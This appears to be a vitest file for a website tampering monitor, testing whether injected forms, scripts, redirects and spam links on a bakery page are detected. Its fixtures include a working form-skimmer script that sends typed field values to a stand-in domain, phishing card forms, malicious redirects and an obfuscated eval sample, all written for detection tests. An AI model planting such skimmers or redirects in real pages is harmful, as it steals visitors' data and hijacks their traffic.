import { describe, expect, it } from "@effect/vitest"
import { breaches, checks, page, verdictOf } from "../support/pages.js"

describe("destinations: where the page sends visitors and their data", () => {
  it("the login form retargeted to a domain the page never used is critical, and says so in words", () => {
    const v = verdictOf(page({ seed: 5, loginAction: "https://login-3fa.example/account" }))
    expect(v.alert).toBe(true)
    const f = v.findings.find((f) => f.check === "form_retargeted")!
    expect(f).toMatchObject({ question: "destinations", severity: "critical", breach: true })
    expect(f.message).toBe("the login form now posts to login-3fa.example, a domain this page never used (it posted to harbourbakery.co.uk)")
    expect(v.summary.startsWith("the login form now posts to login-3fa.example")).toBe(true)
  })

  it("a form action moved to another path of the same site is not a finding", () => {
    expect(checks(verdictOf(page({ seed: 5, loginAction: "/auth/sign-in" })))).not.toContain("destinations/form_retargeted")
  })

  it("a new form that sends what visitors type to a new domain alerts; one to a newsletter provider does not", () => {
    const phish = verdictOf(page({ seed: 5, body: `<form action="https://secure-verify.top/p"><input name="card"><input name="cvv"></form>` }))
    expect(breaches(phish)).toContain("destinations/form_new_domain")
    const newsletter = verdictOf(page({ seed: 5, body: `<form action="https://harbour.us3.list-manage.com/subscribe/post"><input type="email" name="EMAIL"><button>Subscribe</button></form>` }))
    expect(newsletter.alert).toBe(false)
  })

  it("new active content from a new domain alerts: script, frame, embed, stylesheet; from a provider it is reported only", () => {
    for (const body of [
      `<script src="https://cdn-jquery.su/jquery.min.js"></script>`,
      `<iframe src="http://ads-dl.xyz/in.php" width="1" height="1"></iframe>`,
      `<embed src="https://flash-host.cc/owned.swf">`,
      `<link rel="stylesheet" href="https://css-cdn.pw/x.css">`
    ]) {
      expect(verdictOf(page({ seed: 5, body })).alert, body).toBe(true)
    }
    const embed = verdictOf(page({ seed: 5, body: `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>` }))
    expect(embed.alert).toBe(false)
    expect(checks(embed)).toContain("destinations/frame_new_domain")
  })

  it("a script of the page now loaded from another domain is retargeted (critical)", () => {
    const v = verdictOf(page({ seed: 5 }).replace("/static/app.js", "https://static-cdn.ws/static/app.js"))
    expect(v.findings.find((f) => f.check === "script_retargeted")).toMatchObject({ severity: "critical" })
  })

  it("the base URL and redirects to a new domain are critical; a same-site redirect alerts too", () => {
    expect(breaches(verdictOf(page({ seed: 5, head: `<base href="https://mirror.cachefront.xyz/">` })))).toContain("destinations/base_retargeted")
    expect(breaches(verdictOf(page({ seed: 5, head: `<meta http-equiv="refresh" content="3; URL='https://winner-prize.top/'">` })))).toContain("destinations/redirect")
    expect(breaches(verdictOf(page({ seed: 5, body: `<script>if(document.referrer.indexOf("google")>-1){top.location.replace("https://pharm-shop.biz/")}</script>` })))).toContain("destinations/redirect")
    expect(breaches(verdictOf(page({ seed: 5, head: `<meta http-equiv="refresh" content="0;url=/uploads/notice.html">` })))).toContain("destinations/redirect_same_site")
  })

  it("a stable link now pointing at a new domain is retargeted", () => {
    const v = verdictOf(page({ seed: 5 }).replace(`href="/order"`, `href="https://order-harbourbakery.shop/"`))
    expect(v.findings.find((f) => f.check === "link_retargeted")?.message).toContain(`the link "Order online" now points to order-harbourbakery.shop`)
    expect(v.alert).toBe(true)
  })

  it("new links are weighed: one or two to new sites is normal, hidden ones and many are not", () => {
    const article = verdictOf(page({ seed: 5, main: `<p>We were featured by <a href="https://www.yorkshirepost.co.uk/food">the Yorkshire Post</a> and <a href="https://www.bbc.co.uk/food">BBC Food</a> this autumn, and we thank everyone who came to try the new loaves.</p>` }))
    expect(article.alert).toBe(false)
    const hidden = verdictOf(page({ seed: 5, body: `<div style="display:none"><a href="https://best-watches.cc/">watches</a> <a href="https://cheap-tickets.cc/">flights</a></div>` }))
    expect(breaches(hidden)).toContain("destinations/hidden_links")
    const many = ["alpha-deals.net", "bravo-shop.org", "charlie-news.info", "delta-store.biz", "echo-mall.com", "foxtrot.io"]
    const farm = verdictOf(page({ seed: 5, body: `<p>${many.map((d) => `<a href="https://${d}/">${d}</a>`).join(" ")}</p>` }))
    expect(breaches(farm)).toContain("destinations/links_new_domains")
    const spam = verdictOf(page({ seed: 5, body: `<ul><li><a href="/p/slot-gacor-maxwin">slot gacor hari ini</a></li><li><a href="/p/judi-online">situs judi online terpercaya</a></li></ul>` }))
    expect(breaches(spam)).toContain("destinations/spam_links")
  })

  it("a new inline script that reads what visitors type and sends it to a new domain is critical", () => {
    const skimmer = `<script>document.querySelectorAll("form").forEach(function(f){f.addEventListener("submit",function(){var d={};for(var i of f.elements)d[i.name]=i.value;navigator.sendBeacon("https://stats-jq.org/c",JSON.stringify(d))})})</script>`
    const v = verdictOf(page({ seed: 5, body: skimmer }))
    expect(v.findings.find((f) => f.check === "script_exfiltrates")).toMatchObject({ severity: "critical", breach: true })
    const hidden = verdictOf(page({ seed: 5, body: `<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJ2hpJyk="))</script>` }))
    expect(breaches(hidden)).toContain("destinations/script_obfuscated")
  })

  it("the page's own inline scripts with fresh nonces and state are not new", () => {
    expect(checks(verdictOf(page({ seed: 9 }))).filter((c) => c.startsWith("destinations/"))).toEqual([])
  })

  it("a new script file on the page's own site is the site's own code: reported, not alerted on", () => {
    const v = verdictOf(page({ seed: 5, body: `<script src="/static/js/snowfall.js"></script>` }))
    expect(v.findings.find((f) => f.check === "script_new_file")).toMatchObject({ severity: "low" })
    expect(v.findings.find((f) => f.check === "count_script")).toMatchObject({ severity: "low" })
    expect(v.alert).toBe(false)
  })

  it("files renamed by a new build, or moved to another host, are the same files", () => {
    const rebuilt = verdictOf(page({ seed: 5 }).replace("/static/app.js", "/static/app.7f3a9c21.js").replace("/static/site.css", "/static/site.8e21bb90.css"))
    expect(rebuilt.alert).toBe(false)
    const cdn = page({ seed: 5 }).replaceAll("/static/", "https://d3k81ch9hvuctc.cloudfront.net/static/")
    const moved = verdictOf(cdn)
    expect(moved.alert).toBe(false)
    expect(moved.findings.find((f) => f.check === "assets_moved")?.message).toBe("the page now serves its own files from d3k81ch9hvuctc.cloudfront.net")
    // one of the page's scripts alone moved to a new domain is a retarget
    expect(verdictOf(page({ seed: 5 }).replace("/static/app.js", "https://d3k81ch9hvuctc.cloudfront.net/static/app.js")).alert).toBe(true)
  })
})
